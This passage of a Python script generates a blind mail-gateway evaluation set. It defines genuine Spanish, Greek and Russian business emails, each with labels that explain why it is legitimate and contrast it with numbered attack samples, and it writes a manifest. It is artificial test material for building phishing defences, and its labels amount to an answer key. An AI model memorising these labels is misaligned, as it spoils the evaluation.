Transportes Ebro S.L.
Ctra. de Castellón km 4,2 - 50013 Zaragoza
Tel. 976 41 18 20""" % iban_fmt(IBAN_EBRO),
  html="""<div dir="ltr"><div>Buenos días Javier,</div><div><br></div><div>Te adjunto la factura F26-1102 de los portes de octubre (Zaragoza - Martorell y Zaragoza - Valencia puerto, 23 servicios).</div><div><br></div><div>Importe total: 11.236,80 EUR (IVA incluido)<br>Vencimiento: 30 días, por transferencia a nuestra cuenta habitual de Ibercaja (%s).</div><div><br></div><div>Un saludo,</div><div><br></div><div>Marta Gil<br>Administración<br>Transportes Ebro S.L.<br>Ctra. de Castellón km 4,2 - 50013 Zaragoza<br>Tel. 976 41 18 20</div></div>""" % iban_fmt(IBAN_EBRO),
  atts=[pdf_att("F26-1102.pdf", ["Transportes Ebro S.L. - Factura F26-1102", "Portes octubre 2026 - 23 servicios", "Total 11.236,80 EUR",
                                  "IBAN " + iban_fmt(IBAN_EBRO), "[evaluation placeholder]"])],
  what="Monthly freight invoice from the Spanish haulier (Google Workspace), usual Ibercaja account.",
  why="GENUINE: real domain transportesebro.es on Google Workspace, known contact and usual account. Compare attack/31 (Hotmail, changed IBAN).")

def correo_gob():
    inf = Infra("smtp01.correo.gob.es", "smtp01.correo.gob.es", "185.73.172.11", bstyle="java", label="correo.gob.es")
    inf.mid = lambda r, frm: "<%d.%d.JavaMail.dehu@dehu-prod-%02d>" % (r.randint(10 ** 8, 10 ** 9), r.randint(10 ** 9, 10 ** 10), r.randint(1, 12))
    return inf


M(kind="business", file="29-es-dehu-aviso-notificacion-real.eml", lang="es", cs="iso-8859-15", cte="quoted-printable",
  date="2026-11-25 02:14:53", infra=correo_gob(),
  return_path="no-reply@correo.gob.es",
  **{"from": ("Dirección Electrónica Habilitada única", "no-reply@correo.gob.es")},
  to=[P("martinez")],
  subject="Aviso de notificación en la Dirección Electrónica Habilitada única (DEHú)",
  text="""Se ha puesto a disposición una notificación en la Dirección Electrónica Habilitada única (DEHú) para el titular:

B50998172 - EXAMPLE IBERICA S.L.

Organismo emisor: Tesorería General de la Seguridad Social
Concepto: Notificación de resolución - Cambio de tipo de cotización AT/EP

Puede acceder a la notificación a través de la DEHú (https://dehu.redsara.es) identificándose con certificado electrónico o Cl@ve, o desde la sede electrónica del organismo emisor.

Este aviso se remite con carácter informativo; su ausencia no impide que la notificación sea considerada plenamente válida.

Por favor, no responda a este correo electrónico.""",
  what="Genuine DEHú notice of a Social-Security notification for the Spanish subsidiary.",
  why="GENUINE (hard): government notification wording like attack/27, but from correo.gob.es infrastructure, no personalised link, tells the user to go to dehu.redsara.es and log in with certificate/Cl@ve themselves.")

M(kind="business", file="30-es-interno-firma-pagos-seguridad-social.eml", lang="es", cs="utf-8", cte="quoted-printable",
  date="2026-11-27 10:05:48", infra=internal(), content_lang="es-ES",
  **{"from": P("martinez")},
  to=[P("garcia")], cc=[P("hoffmann")],
  subject="Necesito tu firma hoy: remesa nóminas noviembre + Seguridad Social",
  text="""Hola Laura,

ya tengo preparada en la banca electrónica de Santander la remesa de nóminas de noviembre (41 empleados, 96.318,27 EUR) y el cargo de los seguros sociales de octubre (RLC, 38.772,10 EUR, vence el lunes 30).

Están pendientes de tu firma como segunda apoderada. Si puedes firmarlas hoy antes de las 14:00, el banco las procesa con fecha valor del lunes. El resumen de nóminas revisado por la gestoría está en la carpeta compartida Finanzas/ES/Nominas/2026-11.

Claudia, te copio para que lo tengas en la previsión de tesorería.

Gracias,
Javier

--
Javier Martínez
Contabilidad - Example Ibérica S.L.
Polígono Plaza, C/ Tarento 9 | 50197 Zaragoza
Tel. +34 976 30 41 22""",
  what="Spanish accountant asks the office manager to co-sign payroll and social-security payments today.",
  why="GENUINE (urgent payment): internal relay, payments prepared in the company's own e-banking for second signature, payroll reviewed by the external payroll office, CFO in copy; no new beneficiary.")

M(kind="business", file="31-es-newsletter-cluster-automocion-aragon.eml", lang="es", cs="utf-8", cte="quoted-printable",
  date="2026-11-12 11:00:08", tz="+0100",
  infra=bulk("mail62.atl221.rsgsv.net", "mail62.atl221.rsgsv.net", "198.2.138.62", bstyle="mc",
             hdrs=["List-Unsubscribe: <https://caaragon.us12.list-manage.com/unsubscribe?u=4471ab&id=9c2e>, <mailto:unsubscribe-mc.us12_4471ab.9c2e@unsub.mcsv.net>",
                   "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "List-Id: 4471ab9c2e mailchimp list <4471ab9c2e.list-id.mcsv.net>",
                   "X-MC-User: 4471ab0c9e1f2a3b4c5d6e7f8", "X-Feedback-ID: 9c2e:4471ab:us12:mc", "Precedence: bulk"],
             mid_dom="atl221.rsgsv.net"),
  return_path="bounce-mc.us12_4471ab.9c2e-laura.garcia=example.com@mail62.atl221.rsgsv.net",
  **{"from": ("Clúster de Automoción de Aragón", "comunicacion@caaragon.com")},
  to=[P("garcia")],
  subject="Boletín CAAR | Noviembre 2026: jornada de ciberseguridad TISAX y misión a Marruecos",
  text="""Boletín CAAR - Noviembre 2026

- Jornada: Ciberseguridad y TISAX en la cadena de suministro - 2 de diciembre, Zaragoza
- Misión comercial a Tánger Automotive City - inscripciones abiertas hasta el 15/12
- Formación: Core Tools (APQP, PPAP, FMEA) - nueva convocatoria enero 2027

Más información: https://www.caaragon.com/noticias

Has recibido este correo porque estás suscrita al boletín del CAAR.
Darse de baja: https://caaragon.us12.list-manage.com/unsubscribe?u=4471ab&id=9c2e""",
  html="""<html><body style="background:#f4f4f4;margin:0"><table width="600" align="center" style="background:#fff;font-family:Helvetica,Arial,sans-serif;font-size:14px;color:#202020" cellpadding="0" cellspacing="0">
<tr><td style="background:#c8102e;color:#fff;padding:18px 24px;font-size:20px">Boletín CAAR &middot; Noviembre 2026</td></tr>
<tr><td style="padding:20px 24px"><ul>
<li><b>Jornada:</b> Ciberseguridad y TISAX en la cadena de suministro &ndash; 2 de diciembre, Zaragoza</li>
<li><b>Misión comercial</b> a Tánger Automotive City &ndash; inscripciones abiertas hasta el 15/12</li>
<li><b>Formación:</b> Core Tools (APQP, PPAP, FMEA) &ndash; nueva convocatoria enero 2027</li></ul>
<p><a href="https://caaragon.us12.list-manage.com/track/click?u=4471ab&amp;id=7d1e&amp;e=9c2e" style="color:#c8102e">Más información</a></p></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#777">Has recibido este correo porque estás suscrita al boletín del CAAR.<br><a href="https://caaragon.us12.list-manage.com/unsubscribe?u=4471ab&amp;id=9c2e">Darse de baja</a> | Clúster de Automoción de Aragón, Zaragoza</td></tr>
</table></body></html>""",
  what="Monthly newsletter of the regional automotive cluster via Mailchimp.",
  why="GENUINE: subscribed newsletter, Mailchimp infrastructure with proper List-Unsubscribe, informational content.")


# ===========================================================================
# BUSINESS - Greek
# ===========================================================================

M(kind="business", file="32-el-thessmet-timologio-mydata.eml", lang="el", cs="iso-8859-7", cte="quoted-printable",
  date="2026-11-06 13:40:22", tz="+0200",
  infra=server("mail.thessmet.gr", "mail.thessmet.gr", "212.205.63.18", "thessmet.gr", bstyle="exch",
               hdrs=["X-Mailer: Microsoft Outlook 16.0", "Content-Language: el"]),
  **{"from": ("Θεσσαλική Μεταλλουργική - Λογιστήριο", "logistirio@thessmet.gr")},
  to=[P("georgiou")],
  subject="Τιμολόγιο 1482 - Θεσσαλική Μεταλλουργική Α.Ε.",
  text="""Καλησπέρα σας κα Γεωργίου,

σας αποστέλλουμε συνημμένα το τιμολόγιο πώλησης 1482 της 05/11/2026 (ψυχρής έλασης χαλυβδόφυλλα DC04, 18,4 τόνοι, δελτίο αποστολής 7731).

Σύνολο: 17.606,40 € (με ΦΠΑ 24%%)
ΜΑΡΚ myDATA: 400001927714582
Πληρωμή: 60 ημέρες, στον γνωστό λογαριασμό μας στην Τράπεζα Πειραιώς (%s).

Με εκτίμηση,
Δέσποινα Καραγιάννη
Λογιστήριο
Θεσσαλική Μεταλλουργική Α.Ε.
ΒΙ.ΠΕ. Σίνδου, Θεσσαλονίκη - ΑΦΜ %s
Τηλ. 2310 571 330""" % (iban_fmt(IBAN_THESS), AFM_THESS),
  atts=[pdf_att("Timologio_1482.pdf", ["Thessaliki Metallourgiki A.E. - Timologio 1482", "DC04 18,4 t", "Synolo 17.606,40 EUR", "MARK 400001927714582",
                                        "IBAN " + iban_fmt(IBAN_THESS), "[evaluation placeholder]"])],
  what="Steel supplier invoice with myDATA MARK and the known Piraeus Bank account.",
  why="GENUINE: supplier's own mail server (thessmet.gr, OTE static IP), known accountant, invoice registered in myDATA, usual IBAN. Compare attack/33.")

M(kind="business", file="33-el-esoteriko-pliromi-efka-epeigon.eml", lang="el", cs="windows-1253", cte="quoted-printable",
  date="2026-11-27 11:26:37", tz="+0200", infra=internal(), content_lang="el-GR",
  **{"from": P("papadopoulos")},
  to=[P("georgiou")], cc=[P("hoffmann")],
  subject="Πληρωμή ΕΦΚΑ και ΦΜΥ έως Δευτέρα 30/11",
  text="""Ελένη καλημέρα,

υπενθύμιση ότι οι εισφορές ΕΦΚΑ (ΑΠΔ Οκτωβρίου) και η παρακράτηση ΦΜΥ πρέπει να πληρωθούν έως τη Δευτέρα 30/11. Ο λογιστής μας έστειλε τις ταυτότητες οφειλής, είναι στον φάκελο Finance/GR/2026-11.

Φόρτωσέ τα σε παρακαλώ σήμερα στο e-banking της Eurobank ώστε να τα εγκρίνω εγώ το απόγευμα ως δεύτερη υπογραφή. Αν το υπόλοιπο δεν φτάνει, γράψε στην Claudia για μεταφορά από το cash pool (την έχω σε κοινοποίηση).

Ευχαριστώ,
Νίκος

--
Νίκος Παπαδόπουλος
Office Manager - Example Hellas Μ.Ε.Π.Ε.
ΒΙ.ΠΕ. Σίνδου, Θεσσαλονίκη | Τηλ. +30 2310 798 401""",
  what="Greek office manager reminds the local accountant to prepare social-security and payroll-tax payments for his second signature.",
  why="GENUINE (urgent payment): internal relay, payments to the state via payment IDs from the external accountant, four-eyes approval in e-banking, CFO in copy. Compare attack/35 (impersonation of the same manager).")

M(kind="business", file="34-el-prosopiko-gmail-arxeio-fpa.eml", lang="el", cs="utf-8", cte="base64",
  date="2026-11-10 20:51:08", tz="+0200", infra=gmail(176, "ej1", "209.85.218"),
  **{"from": ("Ελένη Γεωργίου", "eleni.georgiou.thes@gmail.com")},
  to=[P("papadopoulos")], cc=[P("georgiou")],
  subject="Περιοδική ΦΠΑ Οκτωβρίου - προσχέδιο (από το προσωπικό μου)",
  text="""Νίκο καλησπέρα,

σου στέλνω από το προσωπικό μου email γιατί το VPN δεν συνδέεται από το σπίτι (έχω ανοίξει ήδη αίτημα στο Service Desk). Συνημμένο είναι το προσχέδιο της περιοδικής ΦΠΑ Οκτωβρίου όπως μου το έστειλε ο λογιστής, για να το δεις πριν την υποβολή της Τετάρτης.

Πιστωτικό υπόλοιπο μεταφέρεται, δεν έχουμε πληρωμή αυτόν τον μήνα.

Το στέλνω και στο εταιρικό μου για να το έχω αύριο στο γραφείο.

Ελένη""",
  html="""<div dir="ltr"><div>Νίκο καλησπέρα,</div><div><br></div><div>σου στέλνω από το προσωπικό μου email γιατί το VPN δεν συνδέεται από το σπίτι (έχω ανοίξει ήδη αίτημα στο Service Desk). Συνημμένο είναι το προσχέδιο της περιοδικής ΦΠΑ Οκτωβρίου όπως μου το έστειλε ο λογιστής, για να το δεις πριν την υποβολή της Τετάρτης.</div><div><br></div><div>Πιστωτικό υπόλοιπο μεταφέρεται, δεν έχουμε πληρωμή αυτόν τον μήνα.</div><div><br></div><div>Το στέλνω και στο εταιρικό μου για να το έχω αύριο στο γραφείο.</div><div><br></div><div>Ελένη</div></div>""",
  atts=[pdf_att("FPA_10-2026_proschedio.pdf", ["Example Hellas - Periodiki dilosi FPA 10/2026 - PROSCHEDIO", "Pistotiko ypoloipo pros metafora", "[evaluation placeholder]"],
                author="Logistiko grafeio")],
  what="Greek accountant sends a VAT return draft from her private Gmail to her manager and her own work address (VPN problem).",
  why="GENUINE (hard): colleague's private address, but no request at all, she copies her work address, explicitly no payment due, ticket already opened with IT.")

M(kind="business", file="35-el-newsletter-evev-thessalonikis.eml", lang="el", cs="utf-8", cte="quoted-printable",
  date="2026-11-18 10:30:00", tz="+0200",
  infra=bulk("mail118.suw121.mcdlv.net", "mail118.suw121.mcdlv.net", "198.2.176.118", bstyle="mc",
             hdrs=["List-Unsubscribe: <https://ebeth.us8.list-manage.com/unsubscribe?u=b71c4471&id=3d0e>, <mailto:unsubscribe-mc.us8_b71c4471.3d0e@unsub.mcsv.net>",
                   "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "List-Id: EBETH Newsletter <b71c44713d0e.list-id.mcsv.net>",
                   "X-MC-User: b71c44710d2e3f4a5b6c7d8e9", "Precedence: bulk"], mid_dom="suw121.mcdlv.net"),
  return_path="bounce-mc.us8_b71c4471.3d0e-nikos.papadopoulos=example.com@mail118.suw121.mcdlv.net",
  **{"from": ("Εμπορικό και Βιομηχανικό Επιμελητήριο Θεσσαλονίκης", "newsletter@ebeth.gr")},
  to=[P("papadopoulos")],
  subject="Ενημερωτικό ΕΒΕΘ: Εξαγωγική ημερίδα, νέα προγράμματα ΕΣΠΑ, ωράριο εορτών",
  html="""<html><body style="background:#f2f2f2;margin:0"><table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;font-size:14px;color:#222">
<tr><td style="background:#0a3d62;color:#fff;padding:18px 24px;font-size:19px">Ενημερωτικό Δελτίο ΕΒΕΘ</td></tr>
<tr><td style="padding:20px 24px">
<p><b>Ημερίδα:</b> «Εξαγωγές προς τη Γερμανία και την Ιταλία &ndash; πρακτικά θέματα τελωνείου και CBAM», Πέμπτη 3 Δεκεμβρίου, αμφιθέατρο ΕΒΕΘ.</p>
<p><b>ΕΣΠΑ 2021-2027:</b> Νέα δράση για τον ψηφιακό μετασχηματισμό μεταποιητικών ΜμΕ &ndash; υποβολή έως 29/01/2027.</p>
<p><b>Ωράριο εορτών:</b> Οι υπηρεσίες του Επιμελητηρίου θα λειτουργούν μειωμένο ωράριο 24/12 και 31/12.</p>
<p><a href="https://ebeth.us8.list-manage.com/track/click?u=b71c4471&amp;id=55a1&amp;e=3d0e" style="color:#0a3d62">Διαβάστε περισσότερα στο ebeth.gr</a></p></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#777">Λαμβάνετε αυτό το μήνυμα ως μέλος του ΕΒΕΘ. <a href="https://ebeth.us8.list-manage.com/unsubscribe?u=b71c4471&amp;id=3d0e">Διαγραφή</a><br>ΕΒΕΘ, Τσιμισκή 29, 546 24 Θεσσαλονίκη</td></tr>
</table></body></html>""",
  what="HTML-only member newsletter of the Thessaloniki Chamber of Commerce and Industry.",
  why="GENUINE: member newsletter via Mailchimp with List-Unsubscribe, informational, links to the chamber's list-manage/ebeth.gr.")


# ===========================================================================
# BUSINESS - Russian
# ===========================================================================

M(kind="business", file="36-ru-vak-akt-sverki-podpisannyi.eml", lang="ru", cs="windows-1251", cte="quoted-printable",
  date="2026-11-11 10:44:51", tz="+0300", infra=yandex(507),
  **{"from": ("Мария Кузьмина", "m.kuzmina@volgaavtokomplekt.ru")},
  to=[P("ivanova")],
  subject="Акт сверки ООО «ВолгаАвтоКомплект» - ООО «Экзампл Рус» за 9 мес. 2026",
  text="""Ольга Сергеевна, добрый день!

Направляю подписанный с нашей стороны акт сверки за 01.01.2026 - 30.09.2026. По нашим данным задолженность в вашу пользу 1 842 615,40 руб. (счета-фактуры сентября, срок оплаты не наступил).

Оригинал отправим через Диадок сегодня же, в почте - скан для проверки. Если есть расхождения, пришлите, пожалуйста, ваш вариант.

С уважением,
Мария Кузьмина
бухгалтер по расчетам с поставщиками
ООО «ВолгаАвтоКомплект», ИНН %s
тел. (831) 233-41-17""" % INN_VAK,
  atts=[pdf_att("Akt_sverki_VAK_Example_Rus_30.09.2026.pdf", ["Akt sverki vzaimoraschetov 01.01.2026 - 30.09.2026", "OOO VolgaAvtoKomplekt - OOO Example Rus",
                                                             "Saldo: 1 842 615,40 RUB v polzu Example Rus", "[evaluation placeholder]"])],
  what="Reconciliation statement from the Russian customer's accountant, PDF scan, original via Diadoc EDO.",
  why="GENUINE: named accountant on the customer's Yandex 360 domain, plain PDF, balance in our favour, original through EDO. Compare attack/40 (same domain, encrypted ZIP with .scr).")

M(kind="business", file="37-ru-vak-reklamatsiya-kachestvo.eml", lang="ru", cs="utf-8", cte="base64",
  date="2026-11-19 08:27:14", tz="+0300", infra=yandex(512),
  **{"from": ("Андрей Волков", "a.volkov@volgaavtokomplekt.ru")},
  to=[P("sokolov")], cc=[P("becker")],
  subject="Рекламация № 26-117 - кронштейн 4471-220-03, отклонение размера",
  text="""Дмитрий, добрый день!

При входном контроле партии от 12.11.2026 (ТТН 3318) выявлено отклонение межосевого расстояния отверстий на кронштейнах 4471-220-03: 46,6 мм при допуске 46,0 ± 0,3. Проверено 125 шт., несоответствие у 31 шт. Партия 2 600 шт. заблокирована.

Просим:
1) до 20.11 - подтвердить сдерживающие меры и остатки на вашем складе;
2) организовать сортировку у нас или согласовать возврат;
3) до 01.12 - отчет 8D.

Протокол измерений и фото во вложении. Катрин Беккер в копии, так как деталь производится в Хайльбронне.

С уважением,
Андрей Волков
инженер по качеству поставщиков
ООО «ВолгаАвтоКомплект»
тел. (831) 233-41-52""",
  atts=[pdf_att("Reklamatsiya_26-117_protokol.pdf", ["Reklamatsiya 26-117 - kronshtein 4471-220-03", "Mezhosevoe rasstoyanie 46,6 mm (dopusk 46,0 +/- 0,3)",
                                                     "31 iz 125 sht. ne sootvetstvuyut", "[evaluation placeholder]"])],
  what="Quality complaint from the Russian customer (hole distance out of tolerance), 8D requested.",
  why="GENUINE: named quality engineer at the customer's domain/Yandex 360, measurement protocol as PDF, consistent with the 4471 bracket issue, no links or payments.")

M(kind="business", file="38-ru-vnutrennee-tamozhennye-platezhi-srochno.eml", lang="ru", cs="koi8-r", cte="quoted-printable",
  date="2026-11-23 09:12:40", tz="+0300", infra=internal(), content_lang="ru-RU",
  **{"from": P("sokolov")},
  to=[P("ivanova")],
  subject="Срочно: авансовые таможенные платежи до 12:00",
  text="""Ольга, доброе утро!

Брокер (ТК «Приволжье») сообщил, что по ДТ на штампы из Германии не хватает авансовых платежей на лицевом счете в ФТС - около 640 тыс. руб. Пока не пополним, выпуск не дадут, а штампы нужны на линии к четвергу.

Пожалуйста, до 12:00 сформируй платежку на пополнение лицевого счета ФТС по обычным реквизитам (КБК 153 1 10 01010 01 1000 110, как в прошлый раз) и отправь мне на подпись в банк-клиенте. Расчет брокера - в папке Финансы/RU/Таможня/2026-11.

Спасибо!
Дмитрий""",
  what="Russian office manager asks the chief accountant to top up the customs advance-payment account before noon.",
  why="GENUINE (urgent payment): internal relay, payment to the state customs service by standard budget code, prepared by the accountant and signed in the bank client; no new beneficiary.")

M(kind="business", file="39-ru-autostat-rassylka.eml", lang="ru", cs="utf-8", cte="quoted-printable",
  date="2026-11-30 12:00:10", tz="+0300",
  infra=bulk("smtp-out-57.unisender.com", "smtp-out-57.unisender.com", "185.97.201.57", bstyle="java",
             hdrs=["List-Unsubscribe: <https://cp.unisender.com/ru/v5/unsubscribe?hash=4471f9c2&cid=88213>",
                   "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "List-Id: <88213.autostat.unisender.com>", "Precedence: bulk",
                   "X-Mailer: UniSender"], mid_dom="unisender.com"),
  return_path="bounce-88213-dmitry.sokolov=examplegroup.eu@us-bounce.unisender.com",
  **{"from": ("АВТОСТАТ", "news@autostat.ru")},
  to=[P("sokolov")],
  subject="АВТОСТАТ: итоги рынка за октябрь и прогноз выпуска автокомпонентов на 2027 год",
  text="""АВТОСТАТ - еженедельная рассылка

- Рынок новых легковых автомобилей в октябре 2026 года: итоги и лидеры
- Локализация автокомпонентов: какие категории растут быстрее всего
- Прогноз выпуска на 2027 год - вебинар 10 декабря

Читать на сайте: https://www.autostat.ru/news/

Вы получили это письмо, потому что подписались на рассылку на сайте autostat.ru.
Отписаться: https://cp.unisender.com/ru/v5/unsubscribe?hash=4471f9c2&cid=88213""",
  html="""<html><body style="background:#f3f3f3;margin:0"><table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;font-size:14px;color:#222">
<tr><td style="background:#1b3a6b;color:#fff;padding:16px 24px;font-size:20px">АВТОСТАТ</td></tr>
<tr><td style="padding:20px 24px"><ul>
<li><a href="https://www.autostat.ru/news/">Рынок новых легковых автомобилей в октябре 2026 года: итоги и лидеры</a></li>
<li><a href="https://www.autostat.ru/news/">Локализация автокомпонентов: какие категории растут быстрее всего</a></li>
<li><a href="https://www.autostat.ru/news/">Прогноз выпуска на 2027 год &ndash; вебинар 10 декабря</a></li></ul></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#777">Вы получили это письмо, потому что подписались на рассылку на сайте autostat.ru. <a href="https://cp.unisender.com/ru/v5/unsubscribe?hash=4471f9c2&amp;cid=88213">Отписаться</a></td></tr>
</table></body></html>""",
  what="Subscribed Russian automotive-analytics newsletter (Autostat) via UniSender.",
  why="GENUINE: subscribed newsletter, ESP infrastructure with List-Unsubscribe, informational only.")

def mailru_biz(n):
    inf = Infra("smtp%d.i.mail.ru" % n, "smtp%d.i.mail.ru" % n, "94.100.177.%d" % (60 + n), bstyle="outlook", label="Mail.ru for Business")
    inf.mid = lambda r, frm: "<%s$%s$%s@translog-nn.ru>" % (rhex(r, 12), rhex(r, 12), rhex(r, 12))
    inf.hdrs = ["X-Mailer: Microsoft Outlook 16.0", "Content-Language: ru", "X-Mailru-Src: smtp", "X-Mras: Ok"]
    return inf


M(kind="business", file="40-ru-translog-nastoyashchee-izmenenie-rekvizitov.eml", lang="ru", cs="koi8-r", cte="quoted-printable",
  date="2026-12-04 11:38:27", tz="+0300", infra=mailru_biz(48),
  **{"from": ("Лебедева Наталья", "buh@translog-nn.ru")},
  to=[P("ivanova")], cc=[P("sokolov")],
  subject="Уведомление о смене банка с 01.01.2027 - ООО «ТрансЛогистик НН»",
  text="""Ольга Сергеевна, добрый день!

Сообщаем, что с 01.01.2027 ООО «ТрансЛогистик НН» (ИНН %s) переходит на обслуживание в Волго-Вятский филиал того же банка в Нижнем Новгороде. Новые реквизиты:

Р/с %s
БИК %s
К/с %s

Прежний счет будет действовать до 31.01.2027, платежи декабря просим проводить как обычно.

Письмо об изменении реквизитов подписано директором и направлено вам через Диадок (документ № ТЛ-2026-1204). Если нужно, подтвердите, пожалуйста, по телефону бухгалтерии из договора - (831) 413-20-07.

С уважением,
главный бухгалтер
Лебедева Н. А.
ООО «ТрансЛогистик НН»""" % (INN_TRANSLOG, ACC_TRANSLOG_NEW, BIK_VOLGA_NEW, CORR_VOLGA_NEW),
  atts=[pdf_att("Pismo_izmenenie_rekvizitov_TL.pdf", ["OOO TransLogistik NN - Pismo ob izmenenii rekvizitov s 01.01.2027", "R/s " + ACC_TRANSLOG_NEW,
                                                       "BIK " + BIK_VOLGA_NEW + "  K/s " + CORR_VOLGA_NEW, "Podpisano direktorom, napravleno cherez Diadok",
                                                       "[evaluation placeholder]"])],
  what="Genuine change of bank details by the Russian haulier: formal letter via EDO (Diadoc), phone number from the contract, old account valid for a month.",
  why="GENUINE (hard): real domain translog-nn.ru on its usual Mail.ru for Business hosting, known chief accountant, letter lodged in EDO, invites verification by contract phone number, local bank. Compare attack/38.")


# ---------------------------------------------------------------------------
# manifest, staff list, write
# ---------------------------------------------------------------------------

CORRESPONDENTS = [
    ("Lieferant GmbH (DE, machined parts)", "Stefan Maier <s.maier@lieferant-gmbh.de>, Buchhaltung <rechnungen@lieferant-gmbh.de>; own Exchange via mail.lieferant-gmbh.de (217.7.148.22)", "IBAN " + IBAN_LIEFERANT_OLD + " (from 2027: " + IBAN_LIEFERANT_NEW + "); USt-IdNr. " + USTID_LIEFERANT),
    ("Ferretti Trasporti S.p.A. (IT, road freight)", "Chiara Colombo <c.colombo@ferretti-trasporti.it>, <amministrazione@ferretti-trasporti.it>; Aruba SMTP", "IBAN " + IBAN_FERRETTI + "; P.IVA " + PIVA_FERRETTI),
    ("Partner Logistik sp. z o.o. (PL, forwarding)", "Tadeusz Zieliński <t.zielinski@partner-logistik.pl>, <ksiegowosc@partner-logistik.pl>; Microsoft 365", "IBAN " + IBAN_PARTNER + " (from 2027: " + IBAN_PARTNER_NEW + "); NIP " + NIP_PARTNER),
    ("Nordwerk Automotive SE (DE, OEM/tier-1 customer)", "Hauke Petersen, Henrike Sattler @nordwerk-automotive.de; portal supplier.nordwerk-automotive.de", ""),
    ("Brackley Systems Ltd (UK, tier-1 customer)", "Priya Natarajan <priya.natarajan@brackley-systems.co.uk>", ""),
    ("Valtra Automoción S.A. (ES, tier-1 customer)", "Ana Belén Ruiz <ab.ruiz@valtra-automocion.es>", ""),
    ("Auto-Komponenty Gliwice S.A. (PL, customer)", "Wojciech Mazur <wojciech.mazur@autokomponenty-gliwice.pl>", ""),
    ("ООО «ВолгаАвтоКомплект» (RU, customer)", "Мария Кузьмина, Андрей Волков @volgaavtokomplekt.ru (Yandex 360)", "ИНН " + INN_VAK + ", р/с " + ACC_VAK + ", БИК " + BIK_SBER_NN + ", к/с " + CORR_SBER),
    ("Midlands Tooling Ltd (UK, toolmaker)", "Rebecca Hale <accounts@midlandstooling.co.uk>, Gary Thornton; Microsoft 365", "IBAN " + IBAN_MIDLANDS),
    ("Stahlhandel Rhein-Neckar GmbH (DE, steel)", "debitoren@stahlhandel-rn.de", ""),
    ("PolyResin Italia S.r.l. (IT, resin)", "amministrazione@polyresinitalia.it", "P.IVA " + PIVA_POLYRESIN),
    ("Θεσσαλική Μεταλλουργική Α.Ε. (GR, steel)", "logistirio@thessmet.gr", "IBAN " + IBAN_THESS + "; ΑΦΜ " + AFM_THESS),
    ("Transportes Ebro S.L. (ES, haulier)", "administracion@transportesebro.es (Google Workspace)", "IBAN " + IBAN_EBRO),
    ("ООО «ТрансЛогистик НН» (RU, haulier)", "buh@translog-nn.ru (Mail.ru for Business)", "ИНН " + INN_TRANSLOG + ", new р/с " + ACC_TRANSLOG_NEW + ", БИК " + BIK_VOLGA_NEW),
    ("Hanse Cargo Logistics GmbH (DE, ocean forwarder)", "import.ocean@hansecargo.de", ""),
]

LANGN = {"de": "German", "en": "English", "it": "Italian", "pl": "Polish", "es": "Spanish", "el": "Greek", "ru": "Russian"}


def md_esc(s):
    return s.replace("|", "\\|").replace("\n", " ")


def write_manifest():
    L = []
    L.append("# Mail-gateway blind evaluation set - MANIFEST\n")
    L.append("Generated by `gen/build.py` (Python 3 stdlib, deterministic, no network). 80 raw RFC 5322 messages as received on "
             "`mx01.example.com` between 1 Nov and 5 Dec 2026: `attack/` (40, must not be delivered plainly) and `business/` (40, must be delivered). "
             "Top `Received:` is always mx01's; internal mail arrives from `mail-int01.example.com [10.20.0.25]`. No Authentication-Results, "
             "DKIM-Signature or X-Spam headers. All attachments are inert placeholders; QR codes are real and decodable; IBANs pass mod-97 "
             "(plus national checks: DE account method 00, IT CIN, ES DC, PL sort-code check, PT NIB; Russian accounts pass the BIK control key; "
             "INN/NIP/P.IVA/USt-IdNr/AFM carry valid check digits).\n")
    L.append("## The company\n")
    L.append("**Example Group** (example.com, examplegroup.eu; ~700 mailboxes) - tier-2 automotive parts supplier (stamped and machined brackets, "
             "plastic-overmoulded parts; supplier portals/EDI, 8D, PPAP, tooling, customs, IATF 16949). Entities: Example Group GmbH (HQ Heilbronn, DE, "
             "USt-IdNr. %s), Example Italia S.r.l. (Brescia), Example Polska sp. z o.o. (Wrocław, NIP %s), Example Ibérica S.L. (Zaragoza), "
             "Example Hellas Μ.Ε.Π.Ε. (Thessaloniki, ΑΦΜ %s), Example UK Ltd (Coventry), ООО «Экзампл Рус» (Nizhny Novgorod, ИНН %s).\n"
             % (USTID_EXAMPLE, NIP_EXAMPLE_PL, AFM_EXAMPLE_GR, INN_EXAMPLE_RU))
    L.append("## Staff\n")
    L.append("| Name | Address | Role | Office |\n|---|---|---|---|")
    for k, n, a, role, off in STAFF:
        L.append("| %s | %s | %s | %s |" % (n, a, role, off))
    L.append("\n## Correspondents\n")
    L.append("| Organisation | Contacts / mail infrastructure | Bank / tax data |\n|---|---|---|")
    for o, c, b in CORRESPONDENTS:
        L.append("| %s | %s | %s |" % (md_esc(o), md_esc(c), md_esc(b)))
    for kind, title in (("attack", "Attack messages (must NOT be delivered plainly)"), ("business", "Business messages (must be delivered)")):
        L.append("\n## %s\n" % title)
        L.append("| File | Language | Charset / CTE | Sender infrastructure | What it is | Why |\n|---|---|---|---|---|---|")
        for m in MESSAGES:
            if m["kind"] != kind:
                continue
            csd = m.get("cs", "utf-8").upper() + " / " + m.get("cte", "quoted-printable")
            if m.get("html") is not None and m.get("text") is not None:
                csd += " (multipart/alternative)"
            elif m.get("html") is not None:
                csd += " (HTML only)"
            if m.get("atts"):
                csd += "; att: " + ", ".join(p.params.split('name="')[1].rstrip('"') for p in m["atts"])
            if m.get("inline"):
                csd += "; inline QR PNG"
            inf = m["infra"]
            infd = "%s [%s]" % (inf.rdns if inf.rdns != "unknown" else "no rDNS, HELO " + inf.helo, inf.ip)
            L.append("| %s/%s | %s | %s | %s | %s | %s |" % (kind, m["file"], LANGN[m["lang"]], md_esc(csd), md_esc(infd), md_esc(m["what"]), md_esc(m["why"])))
    L.append("\n## Counts\n")
    for kind in ("attack", "business"):
        cnt = {}
        for m in MESSAGES:
            if m["kind"] == kind:
                cnt[m["lang"]] = cnt.get(m["lang"], 0) + 1
        L.append("- %s: %d messages - %s" % (kind, sum(cnt.values()), ", ".join("%s %d" % (LANGN[l], cnt[l]) for l in LANGN)))
